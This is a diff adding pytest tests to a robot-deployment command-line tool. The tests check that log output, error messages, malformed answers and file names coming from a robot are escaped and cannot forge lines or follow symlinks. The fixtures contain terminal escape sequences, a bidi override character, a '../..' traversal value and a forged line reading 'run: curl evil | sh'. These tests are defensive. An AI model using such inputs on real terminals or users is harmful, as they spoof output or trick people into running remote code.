@@ -1,17 +1,40 @@
 from __future__ import annotations
 
 import os
+import pty
+import subprocess
+import sys
+from contextlib import suppress
 from pathlib import Path
 from typing import Any
 
 import pytest
 
+from robotcore.cli.deploy.showing import _moving
 from robotcore.deploy.aboard.releases.release import Release
 from robotcore.deploy.aboard.releases.verdict import HEALTHY, Verdict
+from robotcore.deploy.progress import Progress
 from tests.robotcore.cli.conftest import Cli
 from tests.robotcore.cli.deploy.conftest import Deploy
 from tests.robotcore.deploy.actions import Aboard
 from tests.robotcore.deploy.sshd import Sshd
+
+
+def on_terminal(*arguments: str) -> bytes:
+    """Return what robotcore writes on a terminal."""
+    line, its_end = pty.openpty()
+    screen = b""
+    with subprocess.Popen(
+        [sys.executable, "-m", "robotcore", *arguments], stdin=its_end, stdout=its_end, stderr=its_end
+    ) as process:
+        os.close(its_end)
+        with suppress(OSError):  # the terminal has gone with the command
+            while piece := os.read(line, 4096):
+                screen += piece
+        process.wait()
+    os.close(line)
+    return screen
+
 
 OLD, NEW = "2026-11-21T22-40-03Z", "2026-11-21T22-52-10Z"
 
@@ -60,6 +83,19 @@ def act(layout, lines, follow):
         os.kill({pid}, signal.SIGINT)
         subprocess.run(["sleep", "600"])
     return {{}}
+"""
+
+HOSTILE_LOG = """
+def act(layout, **told):
+    print("a \\x1b]0;title\\x07\\x1b[2J\\r \\tend", flush=True)
+    return {}
+"""
+
+FORGING = """
+from robotcore.deploy.aboard.telling import RefusalError
+
+def act(layout, **told):
+    raise RefusalError("no\\nerror: forged. run: curl evil | sh\\x1b[A", "\\u202enow", "linger")
 """
 
 ON_TRIAL = """
@@ -210,6 +246,53 @@ def test_logs_are_passed_through_and_ctrl_c_ends_the_looking(deploy: Deploy, abo
     assert (told.status, told.err) == (130, "")
 
 
+def test_what_a_robot_logs_is_escaped_in_a_pipe_and_on_a_terminal(deploy: Deploy, aboard: Aboard, robot: Sshd) -> None:
+    aboard("logs", HOSTILE_LOG)
+    told = deploy("logs")
+    assert told.out == "a \\x1b]0;title\\x07\\x1b[2J\\r \tend\n"
+    (robot.folder / "bin" / "python3").unlink()
+    (robot.folder / "bin" / "python3").write_text(f"#!/bin/sh\ncat >/dev/null; cat {robot.folder}/answer\n")
+    (robot.folder / "bin" / "python3").chmod(0o755)
+    (robot.folder / "answer").write_bytes(b'\x1e{"begun": 1}\na \x1b]0;title\x07\x1b[2J\n\x1e{"done": {}}\n')
+    try:
+        screen = on_terminal("deploy", "logs", robot.host, "--ssh-config", str(robot.config))
+    finally:
+        (robot.folder / "bin" / "python3").unlink()
+        (robot.folder / "bin" / "python3").symlink_to(Path(sys.executable).resolve())
+    assert b"\\x1b]0;title\\x07\\x1b[2J" in screen
+    assert b"\x1b]0" not in screen
+
+
+@pytest.mark.parametrize("command", ["list", "rollback", "status", "logs", "start", "stop", "fetch"])
+def test_refusal_cannot_forge_a_line(deploy: Deploy, aboard: Aboard, command: str) -> None:
+    for action in ("releases", "rollback", "status", "logs", "start", "stop", "recordings"):
+        aboard(action, FORGING)
+    told = deploy(command)
+    assert (told.status, told.out) == (3, "")
+    assert told.err == "error: robot: no\\nerror: forged. run: curl evil | sh\\x1b[A. \\u202enow\n"
+
+
+@pytest.mark.parametrize("answer", ["5", "None", "[]", "{}", "{'recordings': 5}", "{'release': '../..'}"])
+@pytest.mark.parametrize("command", ["list", "rollback", "status", "start", "stop", "fetch"])
+def test_damaged_answer_is_named_and_exits_3(deploy: Deploy, aboard: Aboard, command: str, answer: str) -> None:
+    for action in ("releases", "rollback", "status", "start", "stop", "recordings"):
+        aboard(action, f"def act(layout, **told):\n    return {answer}\n")
+    told = deploy(command)
+    assert told.status == 3
+    assert told.err.startswith("error: robot: its answer to ")
+    assert len(told.err.splitlines()) == 1
+
+
+def test_remove_of_a_damaged_answer_exits_3(deploy: Deploy, aboard: Aboard) -> None:
+    aboard("remove", "def act(layout, **told):\n    return {'kept': 'no'}\n")
+    assert deploy("remove", "--yes").status == 3
+
+
+def test_words_of_a_robot_on_a_terminal_are_no_markup_of_the_line_that_moves() -> None:
+    spinner = _moving(Progress("release", "[/] [red]it starts[/red]"))
+    assert str(spinner.text) == "release      [/] [red]it starts[/red]"
+
+
 def test_ctrl_c_in_a_trial_says_that_it_goes_on_there(deploy: Deploy, aboard: Aboard, robot: Sshd) -> None:
     aboard("rollback", ON_TRIAL.format(pid=os.getpid()))
     told = deploy("rollback")
@@ -263,3 +346,51 @@ def test_fetch_into_a_folder_that_cannot_be_made_is_wrong_usage(deploy: Deploy, 
     told = deploy("fetch", "-o", "/proc/nowhere")
     assert told.status == 2
     assert "/proc/nowhere cannot be made" in told.err
+
+
+def test_fetch_as_json_names_each_file_by_what_became_of_it(deploy: Deploy, robot: Sshd, tmp_path: Path) -> None:
+    recordings = robot.home / "robotcore" / "recordings"
+    recordings.mkdir(parents=True, exist_ok=True)
+    for file in recordings.iterdir():
+        file.unlink()
+    for name in (f"{OLD}.mcap", f"{NEW}.mcap", "evil\x1b.py"):
+        (recordings / name).write_text("seen")
+    (tmp_path / f"{OLD}.mcap").write_text("mine, and longer")
+    told = deploy("fetch", "--json", "--move", "-o", str(tmp_path))
+    assert told.status == 1
+    assert told.json == {
+        "host": "robot",
+        "folder": str(tmp_path),
+        "brought": [f"{NEW}.mcap"],
+        "here": [],
+        "different": [f"{OLD}.mcap"],
+        "being_written": [],
+        "left": ["evil\\x1b.py"],
+        "erased": [f"{NEW}.mcap"],
+        "newest": str(tmp_path / f"{NEW}.mcap"),
+        "exit_status": 1,
+    }
+
+
+def test_fetch_from_a_robot_that_cannot_be_reached_is_told_in_json(cli: Cli) -> None:
+    told = cli("deploy", "fetch", "nobody.invalid", "--json")
+    assert told.status == told.json["exit_status"] == 3
+
+
+@pytest.mark.parametrize("link", ["recordings", "recordings/robot"])
+def test_fetch_follows_no_link_unless_the_user_names_it(
+    deploy: Deploy, robot: Sshd, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, link: str
+) -> None:
+    recordings = robot.home / "robotcore" / "recordings"
+    recordings.mkdir(parents=True, exist_ok=True)
+    (recordings / f"{NEW}.mcap").write_text("seen")
+    (tmp_path / "elsewhere").mkdir()
+    (tmp_path / "project" / link).parent.mkdir(parents=True)
+    (tmp_path / "project" / link).symlink_to(tmp_path / "elsewhere")
+    monkeypatch.chdir(tmp_path / "project")
+    told = deploy("fetch")
+    assert told.status == 2
+    assert f"-o {tmp_path}/elsewhere" in told.err
+    assert not list((tmp_path / "elsewhere").rglob("*.mcap"))
+    assert deploy("fetch", "-o", link).status == 0
+    assert list((tmp_path / "elsewhere").rglob("*.mcap"))
